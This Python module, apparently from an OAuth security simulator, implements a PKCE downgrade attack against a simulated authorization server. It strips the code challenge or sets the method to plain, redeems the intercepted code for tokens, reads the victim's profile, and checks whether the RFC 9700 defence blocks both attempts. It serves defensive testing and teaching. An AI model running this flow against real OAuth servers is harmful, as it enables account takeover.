"""pkce-downgrade: the attacker weakens the PKCE of the victim's authorization request, then
redeems the intercepted code without a verifier, or with one read off the request. S256 only,
a challenge required, and a verifier required exactly when a challenge was sent stop it
(RFC 9700 §4.8.2, §2.1.1).

The single-page app sends a proper request (code_challenge = S256 of a secret verifier).
The attacker, who can rewrite that request on its way (a malicious extension, a tampered
link) and receives the authorization response (the malicious app of code-interception),
tries two downgrades in turn:
  1. strip code_challenge and code_challenge_method, then redeem with no verifier at all;
  2. keep the challenge but set code_challenge_method=plain: with `plain` the verifier IS
     the challenge, and the challenge was in the URL, so the attacker "guesses" it.
With the defence on, the server refuses both requests at once (an error redirect: a
challenge is required, S256 only), so no code is ever issued. With it off (Authlib's lax
defaults for this run) both downgrades give the attacker tokens.
"""

from __future__ import annotations

import secrets

from sim import defences
from sim.attacker import Attacker
from sim.parties import AUTHORIZATION_SERVER, USER_AGENT
from sim.scenarios.attack_common import (
    SPA,
    AttackScenario,
    Mark,
    error_of,
    on_attacker_origin,
    pkce_pair,
    query_param,
    spa_authorization_url,
    spa_redirect_uri,
    with_params,
    without_params,
)
from sim.scenarios.base import log_in_and_consent


class PkceDowngrade(AttackScenario):
    name = "pkce-downgrade"
    description = "Strip the PKCE challenge or downgrade it to plain (S256 only)"
    defence = defences.PKCE_DOWNGRADE
    defence_text = (
        "The server requires a code_challenge with method S256 (plain and missing challenges "
        "are refused), and a code_verifier exactly when a challenge was sent."
    )
    rfc = "RFC 9700 §4.8.2, §2.1.1; RFC 7636 §4.2"

    def attack(self, sim, flow: str, insecure: bool, attacker: Attacker):
        victim = sim.user_agent(flow)
        victim.get(sim.client_url + "/spa")
        _, challenge = pkce_pair()  # the verifier never leaves the SPA
        honest = spa_authorization_url(sim, secrets.token_urlsafe(16), challenge)
        attempts = {
            "challenge stripped": (
                without_params(honest, "code_challenge", "code_challenge_method"),
                None,
            ),
            "method plain": (with_params(honest, code_challenge_method="plain"), challenge),
        }
        evidence: dict = {}
        succeeded = False
        for label, (url, guessed_verifier) in attempts.items():
            result = self._attempt(sim, victim, attacker, url, guessed_verifier)
            evidence[label] = result
            succeeded = succeeded or result["attacker_read_profile_of"] == "alice"
        marks = [
            Mark(
                USER_AGENT,
                AUTHORIZATION_SERVER,
                "GET",
                "/authorize",
                self.marker(
                    insecure,
                    "PKCE required: no code_challenge, so invalid_request; no code issued",
                    "PKCE required: a request without code_challenge was accepted",
                ),
                lacks="code_challenge",
            ),
            Mark(
                USER_AGENT,
                AUTHORIZATION_SERVER,
                "GET",
                "/authorize",
                self.marker(
                    insecure,
                    "S256 only: code_challenge_method=plain refused; no code issued",
                    "S256 only: method plain accepted, so the challenge in the URL is the verifier",
                ),
                contains="code_challenge_method=plain",
            ),
        ]
        return evidence, succeeded, marks

    @staticmethod
    def _attempt(sim, victim, attacker, url: str, verifier: str | None) -> dict:
        redirect_uri = spa_redirect_uri(sim)
        first = victim.get(url)
        response = first
        if not first.is_redirect or not (victim.location(first) or "").startswith(redirect_uri):
            response = log_in_and_consent(victim, first, stop_at=redirect_uri)
        location = victim.location(response) or ""
        # The malicious app receives the authorization response, error or code.
        victim.get(on_attacker_origin(location, sim.attacker_url))
        code = query_param(location, "code")
        result = {
            "authorize_error": query_param(location, "error") or None,
            "code_issued": bool(code),
            "token_status": None,
            "attacker_read_profile_of": None,
        }
        if not code:
            return result
        data = {
            "grant_type": "authorization_code",
            "code": code,
            "redirect_uri": redirect_uri,
            "client_id": SPA.client_id,
        }
        if verifier is not None:
            data["code_verifier"] = verifier
        answer = attacker.http.post(sim.authorization_server_url + "/token", data=data, timeout=10)
        result["token_status"] = answer.status_code
        if not answer.ok:
            result["token_error"] = error_of(answer)
            return result
        profile = attacker.http.get(
            sim.resource_server_url + "/api/profile",
            headers={"Authorization": f"Bearer {answer.json()['access_token']}"},
            timeout=10,
        )
        result["attacker_read_profile_of"] = profile.json().get("username") if profile.ok else None
        return result


SCENARIOS = [PkceDowngrade()]
